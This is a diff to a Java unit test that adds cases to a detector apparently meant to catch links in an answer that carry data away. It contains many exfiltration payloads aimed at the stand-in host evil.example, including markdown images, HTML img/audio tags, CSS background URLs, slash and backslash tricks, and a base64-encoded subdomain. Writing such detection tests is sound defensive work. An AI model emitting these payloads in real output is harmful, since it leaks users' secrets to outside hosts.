@@ -21,7 +21,25 @@ class LinksTest {
         "https://user@evil.example/?x={a}",
         "\n[img]: https://evil.example/a?b=c",
         "https://dGhpcyBpcyBzZWNyZXQgZGF0YSBpbiBhIG5hbWUgMTIz.evil.example/",
-        "HTTPS://EVIL.EXAMPLE/{X}"
+        "HTTPS://EVIL.EXAMPLE/{X}",
+        "![x](https:/evil.example/?q=secret)",
+        "![x](https:\\\\evil.example/?q=secret)",
+        "![x](//evil.example/?q=secret)",
+        "![x](/\\evil.example/?q=secret)",
+        "<img src=\"//evil.example/?q=secret\">",
+        "\n[img]: //evil.example/?q=secret",
+        "<img src=\"https://evil.example\\@threadco.example/?q=secret\">",
+        "![x](https://threadco.example\\.evil.example/?q=secret)",
+        "![x](https://evil.example/'?q=secret)",
+        "![x](https://evil.example/\"?q=secret)",
+        "![x](https://evil.example/(a)?q=secret)",
+        "![x](https://evil.example/a\\)?q=secret)",
+        "![x](https://evil.example/?secret)",
+        "![a [b] c](https://evil.example/?q=secret)",
+        "![a\\](b](https://evil.example/?q=secret)",
+        "<audio src='https://evil.example/?q=secret'>",
+        "<td background=\"https://evil.example/?q=secret\">",
+        "<p style=\"background:url('https://evil.example/?q=secret')\">"
       })
   void findsAddressesThatCarryDataAway(String answer) {
     assertThat(LINKS.find("See " + answer + " now")).hasSize(1);
@@ -36,6 +54,10 @@ class LinksTest {
         "![x](https://threadco.example/p?q=1)",
         "https://shop.threadco.example/{id}",
         "at 10:30 we meet: room 4",
+        "x = 1; // https: see ?q=1",
+        "(//a comment?x=1 or \"//\")",
+        "[a](https://docs.example/x?a=1) ![b](b.png?v=1)",
+        "<a href=\"https://docs.example/search?q=size\">",
         "https://docs.example/a-very-long-title-of-an-article-about-garden-furniture"
       })
   void leavesOrdinaryAndAllowedAddressesAlone(String answer) {
